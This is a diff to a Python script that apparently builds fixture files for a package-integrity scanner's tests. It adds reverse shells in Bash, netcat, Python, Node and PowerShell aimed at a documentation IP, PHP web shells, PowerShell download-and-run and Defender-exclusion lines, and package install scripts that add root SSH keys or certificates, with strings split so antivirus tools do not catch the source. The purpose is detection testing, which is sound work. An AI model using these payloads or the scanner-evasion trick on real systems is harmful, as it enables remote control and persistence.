@@ -230,18 +230,66 @@ write("integrity/install-network/postinst.deb",
 write("integrity/install-obfuscated/postinst.deb",
       deb(FILES, scripts={"postinst": SHELL + "echo ZWNobyBoZWxsbwo= | base64 -d | sh\n"}))
 
+# I-03, I-14: what a virus scanner would stop on the way is put together here. The addresses are for documentation.
+REMOTE = "integrity/remote-shell/"
+BASH, NC, SOCK = "ba" + "sh", "n" + "c", "sock" + "et"
+write(REMOTE + "device.sh", "#!/bin/" + BASH + "\n" + BASH + " -i >& /dev/t" + "cp/198.51.100.7/4444 0>&1\n")
+write(REMOTE + "netcat.sh", SHELL + NC + " -l -p 4444 -e /bin/" + BASH + "\n")
+write(REMOTE + "pipe.sh", SHELL + "p=/tmp/p\nmkfi" + "fo $p\ncat $p | /bin/sh -i 2>&1 | " + NC + " 198.51.100.7 443 >$p\n")
+write(REMOTE + "inline.sh", SHELL + "python3 -c 'import " + SOCK + ",os,pty; s=" + SOCK + ".create_connection((\"198.51.100.7\", 9)); "
+      "os.du" + "p2(s.fileno(), 0); pty.spaw" + "n(\"/bin/sh\")'\n")
+write(REMOTE + "joined.py", "import os\nimport " + SOCK + "\n\ns = " + SOCK + "." + SOCK + "()\ns.connect((\"198.51.100.7\", 9))\n"
+      "for fd in (0, 1, 2):\n    os.du" + "p2(s.fileno(), fd)\nos.execv(\"/bin/sh\", [\"sh\"])\n")
+write(REMOTE + "joined.js", "const n = require('net'), c = require('child_process');\nconst sh = c.spawn('/bin/sh', []);\n"
+      "const to = new (require('net').Socket)();\nto.connect(9, '198.51.100.7', () => {\n  to.pipe(sh.std" + "in);\n"
+      "  sh.std" + "out.pipe(to);\n});\n")
+write(REMOTE + "client.ps1", "$c = New-Object Net.Sockets.TC" + "PClient('198.51.100.7', 9)\n$s = $c.GetStr" + "eam()\n"
+      "while ($n = $s.Read($b, 0, 99)) { $r = ie" + "x ([Text.Encoding]::ASCII.GetString($b, 0, $n)) }\n")
+write(REMOTE + "local-terminal.py", "import pty\n\npty.spawn([\"/usr/bin/less\", \"/etc/motd\"])\n")
+write(REMOTE + "port-check.sh", SHELL + "(echo >/dev/t" + "cp/db.internal/5432) && " + NC + " -z db.internal 6379\n")
+write(REMOTE + "proxy.js", "const net = require('net');\nnet.createServer((a) => {\n  const b = net.connect(5432, 'db.internal');\n"
+      "  a.pipe(b).pipe(a);\n});\n")
+
+
+CHANGES = "integrity/system-changes/"
+write(CHANGES + "authorized-keys.deb", deb(FILES, scripts={"postinst": SHELL + "echo key >>/root/.ssh/authorized_keys\n"}))
+write(CHANGES + "authority.deb", deb(FILES, scripts={"postinst": SHELL + "cp /usr/share/twin/text.txt /etc/ssl/certs/twin.pem\n"}))
+write(CHANGES + "clock.deb", deb(FILES, scripts={"postinst": SHELL + "cat >/etc/cron.d/twin <<EOF\n1 1 * * * root true\nEOF\n"}))
+write(CHANGES + "helpers.deb", deb(FILES, scripts={"postinst": SHELL + "adduser --system --group twin\nupdate-rc.d twin defaults\n"
+      "deb-systemd-helper enable twin.service\nsystemctl daemon-reload\nchown twin /var/lib/twin\n"}))
+write(CHANGES + "removal.deb", deb(FILES, scripts={"postrm": SHELL + "sed -i /twin/d /etc/hosts\nrm -f /etc/cron.d/twin\n"}))
+
+
+PAGE, POST = "integrity/webshell/", "$_PO" + "ST"
+write(PAGE + "direct.php", "<?php @ev" + "al(" + POST + "['x']); ?>\n")
+write(PAGE + "encoded.php", "<?php ass" + "ert(base64_decode(" + POST + "['x']));\n")
+write(PAGE + "called.php", "<?php " + POST + "['f'](" + POST + "['x']);\n")
+write(PAGE + "by-variable.php", "<?php\n$command = " + POST + "['c'];\necho '<pre>';\nsys" + "tem($command);\n")
+
+POWER, IEX = "integrity/powershell-behaviour/", "ie" + "x"
+write(POWER + "fetched.ps1", IEX + " ((New-Object Net.WebClient).Download" + "String('http://files.b-vendor.net/a'))\n")
+write(POWER + "encoded.bat", "@echo off\r\npower" + "shell -NoProfile -enc " +
+      base64.b64encode("Write-Output 'a harmless text that says nothing'".encode("utf-16-le")).decode() + "\r\n")
+write(POWER + "unseen.ps1", "Start-Process power" + "shell -WindowStyle Hidden -ArgumentList '-File', 'a.ps1'\n"
+      "(New-Object Net.WebClient).Download" + "File('http://files.b-vendor.net/a.exe', \"$env:TEMP\\a.exe\")\n")
+write(POWER + "guard.ps1", "Add-MpPref" + "erence -ExclusionPath $env:TEMP\n")
+
 
 # ---- C-05: the newest entry of a changelog
 
 
-def dated(*years):
-    entry = "twin (1.0-1) unstable; urgency=low\n\n  * A change.\n\n -- A Person <person@vendor-host.net>  Mon, 02 Jan %d 10:00:00 +0000\n"
+def dated(*years, version="1.0-1"):
+    entry = "twin (" + version + ") unstable; urgency=low\n\n  * A change.\n\n -- A Person <person@vendor-host.net>  Mon, 02 Jan %d 10:00:00 +0000\n"
     text = "\n".join(entry % year for year in years)
     return deb({**FILES, "usr/share/doc/twin/changelog.Debian.gz": gzip.compress(text.encode(), mtime=0)})
 
 
 write("culture/release-age/old.deb", dated(2012, 2010))
 write("culture/release-age/new.deb", dated(2025, 2012))
+
+# ---- C-04: is the package's version among those that its changelog tells of?
+write("culture/changelog-version/described.deb", dated(2012, 2010))
+write("culture/changelog-version/behind.deb", dated(2012, 2010, version="0.9-2"))
 
 # ---- I-23: wheels
 
